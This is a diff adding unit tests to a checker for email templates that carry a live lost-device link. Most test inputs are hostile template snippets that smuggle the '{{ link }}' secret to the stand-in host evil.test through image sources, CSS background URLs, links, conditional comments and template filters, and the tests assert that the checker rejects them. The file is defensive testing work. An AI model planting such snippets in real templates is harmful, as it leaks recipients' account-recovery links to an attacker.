@@ -121,6 +121,55 @@ public sealed class TemplateCheckTests
         Assert.All(faults, fault => Assert.IsType<TemplateFault.ActiveContent>(fault));
     }
 
+    /// <summary>Red while only active content was looked for: each of these saved, and the first sent the live link with the mail's opening.</summary>
+    [Theory]
+    [InlineData("<img src=\"https://evil.test/?{{ link }}\">"), InlineData("<img src=\"{{ link }}\">"), InlineData("<table background='https://evil.test/?{{ link }}'>"), InlineData("<p style=\"background: url(https://evil.test/?{{ link }})\">x")]
+    [InlineData("<style>p { background: url(https://evil.test/?{{ link }}) }</style>"), InlineData("<a href=\"https://evil.test/?{{ link }}\">x</a>"), InlineData("<a href=\"{{ link }}?x=1\">x</a>")]
+    [InlineData("<a href=\"{{ portal_url }}/x?{{ link }}\">x</a>"), InlineData("<p title=\"{{ link }}\">x"), InlineData("<!-- {{ link }} -->"), InlineData("<!--[if mso]><img src=\"https://evil.test/?{{ link }}\"><![endif]-->")]
+    [InlineData("https://evil.test/?{{ link }}"), InlineData("https://evil.test/?q=<b>{{ link }}</b>"), InlineData("https&#58;//evil.test/{{ link }}"), InlineData("{{ portal_url }}{{ link }}"), InlineData("{{ link }}{{ link }}")]
+    [InlineData("https://evil.test/? {{- link }}"), InlineData("https://evil.test/?{% if true %}{{ link }}{% endif %}"), InlineData("{% assign a = link %}<a href=\"https://evil.test/?{{ a }}\">x</a>")]
+    [InlineData("{% if link contains 'a' %}<img src=\"https://evil.test/a.png\">{% endif %}"), InlineData("{% case link %}{% when 'a' %}x{% endcase %}"), InlineData("{{ link | append: 'x' }}"), InlineData("{{ from_address | append: link }}")]
+    [InlineData("</p {{ link }}>"), InlineData("<a name=\"{{ link }}\">x</a>"), InlineData("<img alt=\"{{ link }}\" src=\"cid:x\">")]
+    public void A_live_link_stands_only_as_the_whole_address_of_a_link_or_as_text(string html)
+    {
+        var template = TemplateCatalogue.LostDeviceLink;
+        var text = TemplateText.Default(template);
+        var faults = Check.Check(template, text with { Html = $"<p>\n<a href=\"{{{{ link }}}}\">x</a> {{{{ link }}}} and</p>\n{html}" });
+        Assert.NotEmpty(faults);
+        Assert.All(faults, fault => Assert.True(fault is TemplateFault.LinkMisplaced { Name: "link" } or TemplateFault.FieldInImage or TemplateFault.ActiveContent, fault.ToString()));
+        if (!html.Contains("{{-", StringComparison.Ordinal)) Assert.All(faults, fault => Assert.True(fault.At!.Line >= 3, fault.ToString()));
+    }
+
+    [Theory]
+    [InlineData("https://evil.test/?{{ link }}"), InlineData("see evil.test/{{ link }}"), InlineData("a@evil.test?{{ link }}"), InlineData("{{ portal_url }}{{ link }}"), InlineData("{{ link | upcase }}")]
+    public void Nor_may_it_be_glued_to_another_address_in_the_text(string line)
+    {
+        var template = TemplateCatalogue.LostDeviceLink;
+        var fault = Assert.IsType<TemplateFault.LinkMisplaced>(Assert.Single(Check.Check(template, TemplateText.Default(template) with { Text = $"one\n{{{{ link }}}}\n{line}" })));
+        Assert.Equal((TemplateParts.Text, 3), (fault.Part, fault.At?.Line));
+    }
+
+    [Theory]
+    [InlineData("<a href=\"{{ link }}\">x</a>"), InlineData("<a class='b' href='{{link}}' style=\"color: red\">{{ link }}</a>"), InlineData("<p>Link:&nbsp;{{ link }}</p>"), InlineData("<p>Link:{{ link }}.</p>")]
+    [InlineData("https://ours.test/<br>{{ link }}"), InlineData("<td>https://ours.test</td><td>{{ link }}</td>"), InlineData("{% if from_address != '' %}({{ link }}){% endif %}"), InlineData("<a\n  href=\"{{- link -}}\">x</a>")]
+    [InlineData("<img src=\"https://ours.test/logo.png\"><a href=\"https://ours.test/?{{ from_address }}\">x</a> <img src='cid:x' alt=\"{{ company_name }}\">")]
+    public void What_keeps_it_in_the_mail_is_taken(string html)
+    {
+        var template = TemplateCatalogue.LostDeviceLink;
+        Assert.Empty(Check.Check(template, TemplateText.Default(template) with { Html = $"{{{{ link }}}}\n{html}" }));
+    }
+
+    [Theory]
+    [InlineData("<img src=\"https://evil.test/?{{ recipient_name }}\">"), InlineData("<img src=\"{{ portal_url }}/logo.png\">"), InlineData("<img src='https://evil.test/{% if at %}a{% endif %}'>")]
+    [InlineData("<td background=\"https://evil.test/{{ at }}\">"), InlineData("<p style=\"background: url(https://evil.test/{{ at }})\">"), InlineData("<style>p { background: url({{ at }}) }</style>")]
+    public void No_image_holds_a_field(string html)
+    {
+        var fault = Html($"<p>\n{html}").OfType<TemplateFault.FieldInImage>();
+        // Some are no harmless address either.
+        if (!fault.Any()) Assert.All(Html($"<p>\n{html}"), other => Assert.IsType<TemplateFault.ActiveContent>(other));
+        Assert.NotEmpty(Html($"<p>\n{html}"));
+    }
+
     [Theory]
     [InlineData("<p class=\"x\" style='color: red'>1 < 2 & 3 > 2 <br/> <b>{{ sent_by }}</b></p>"), InlineData("<a href=\"{{ portal_url }}\">x</a><a href='{{portal_url}}/help/mfa'>y</a>")]
     [InlineData("<a href='https://a.test/x?y=1#z'>x</a><a href=mailto:a@b.test>y</a><a href=tel:1>z</a>"), InlineData("<img alt='' src='data:image/png;base64,AA=='><img src=cid:logo>")]
